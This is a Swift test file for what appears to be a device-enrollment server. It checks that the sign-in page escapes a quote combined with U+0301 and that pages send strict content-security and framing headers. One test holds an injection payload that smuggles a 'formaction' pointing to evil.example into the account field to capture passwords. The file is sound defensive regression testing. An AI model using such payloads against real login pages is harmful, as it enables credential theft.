import AdminMessages
import Crypto
import Foundation
import TestInputs
import Testing

/// The pages that a browser is shown, the console's and those beside it: what they are made of, and what they let a
/// browser do.
@Suite struct PagePolicyTests {
    private static let signIn = "/enroll/account/sign-in"

    /// Was red: a quotation mark before U+0301 is one character to Swift, which the page's own escaping left alone.
    ///
    /// It ended the attribute, and a `formaction` behind it sent account and password to whoever had made the link.
    @Test func noLinkToTheSignInPageWritesMarkup() async throws {
        try await TestServer.run { (server) async throws in
            try await server.client().with { (client) async throws in
                func page(_ account: String) async throws -> Answer {
                    let query = account.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
                    return try await client.send("GET", server.baseURL + Self.signIn + "?user-identifier=" + query)
                }
                let harmless = Self.marks(try await page("anna@example.org"))
                #expect(harmless.count > 20)
                for mark in JoiningScalars.marks {
                    let hostile = JoiningScalars.some.map { JoiningScalars.text(mark, $0) }.joined(separator: "a")
                    let answer = try await page(hostile)
                    #expect(answer.status == 200)
                    #expect(Self.marks(answer) == harmless, "\(mark): \(answer.text)")
                }
                let link = "a\"\u{301} type=submit formaction=https://evil.example x=\""
                let answer = try await page(link)
                #expect(answer.text.contains("a&quot;\u{301} type=submit"), "\(answer.text)")
                // What somebody typed comes back on the page that refuses it.
                let body = "account=" + (link.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? "")
                let refused = try await client.send(
                    "POST", server.baseURL + Self.signIn,
                    headers: ["Content-Type": "application/x-www-form-urlencoded"],
                    body: Data((body + "&password=x").utf8))
                #expect(refused.status == 403 && refused.text.contains("a&quot;\u{301} type=submit"), "\(refused.text)")
            }
        }
    }

    /// Was red for the page on which people sign in to enroll: it had no `form-action`, no `base-uri` and no
    /// `X-Frame-Options`, so that one hole in its escaping was all it took; and for the reference, which caches could
    /// keep.
    @Test(arguments: [
        ("/console", "same-origin"), ("/console/sign-in", "same-origin"), ("/console/nothing", "same-origin"),
        ("/api/v1/reference", "same-origin"), (signIn, "no-referrer"), ("/enroll/no-code", "no-referrer"),
    ])
    func eachPageSendsItsFormsHereAndIsShownNowhereElse(path: String, referrer: String) async throws {
        try await TestServer.run { (server) async throws in
            try await server.client().with { (client) async throws in
                let answer = try await client.send("GET", server.baseURL + path)
                Self.expectPolicy(answer, path, referrer: referrer)
            }
        }
    }

    /// The way on after a form counts as its target, too: without the scheme a browser would not hand the token to the
    /// device.
    @Test func theSignInPageLeadsToTheDeviceAndItsStyleIsItsOwn() async throws {
        try await TestServer.run { (server) async throws in
            try await AdminClient.with(server) { (admin) async throws in
                let page = try await admin.client.send("GET", server.baseURL + Self.signIn)
                let policy = Self.directives(page)
                #expect(policy["form-action"] == ["'self'", "apple-remotemanagement-user-login:"])
                #expect(policy["script-src"] == nil)
                let style = try #require(page.text.firstMatch(of: /<style>([^<]*)<\/style>/)).1
                let digest = Data(SHA256.hash(data: Data(style.utf8))).base64EncodedString()
                #expect(policy["style-src"] == ["'sha256-\(digest)'"])
                #expect(page.headers["content-security-policy"]?.contains("unsafe") == false)
                let invitation = try await admin.invite()
                let signedIn = try await admin.signIn(server, "anna@example.org", invitation.password)
                let location = try #require(signedIn.headers["location"])
                #expect(location.hasPrefix("apple-remotemanagement-user-login:"))
                let wrong = try await admin.signIn(server, "anna@example.org", "wrong")
                #expect(wrong.status == 403)
                Self.expectPolicy(wrong, "wrong password", referrer: "no-referrer")
                let half = try await admin.client.send(
                    "POST", server.baseURL + Self.signIn, body: Data("account=anna".utf8))
                #expect(half.status == 400)
                Self.expectPolicy(half, "half a form", referrer: "no-referrer")
            }
        }
    }

    private static func expectPolicy(_ answer: Answer, _ path: String, referrer: String) {
        let policy = directives(answer)
        #expect(policy["default-src"] == ["'none'"], "\(path)")
        #expect(policy["form-action"]?.first == "'self'", "\(path)")
        #expect(policy["frame-ancestors"] == ["'none'"] && policy["base-uri"] == ["'none'"], "\(path)")
        #expect(answer.headers["x-frame-options"] == "DENY", "\(path)")
        #expect(answer.headers["x-content-type-options"] == "nosniff", "\(path)")
        #expect(answer.headers["referrer-policy"] == referrer, "\(path)")
        #expect(answer.headers["cache-control"] == "no-store", "\(path)")
    }

    private static func directives(_ answer: Answer) -> [String: [String]] {
        let directives = (answer.headers["content-security-policy"] ?? "").split(separator: "; ").map { directive in
            directive.split(separator: " ").map(String.init)
        }
        return Dictionary(directives.map { ($0[0], Array($0.dropFirst())) }) { first, _ in first }
    }

    /// What ends a text, a value or a tag, for whoever reads bytes.
    private static func marks(_ answer: Answer) -> [UInt8] { Array(answer.body).filter { "<>\"'".utf8.contains($0) } }
}
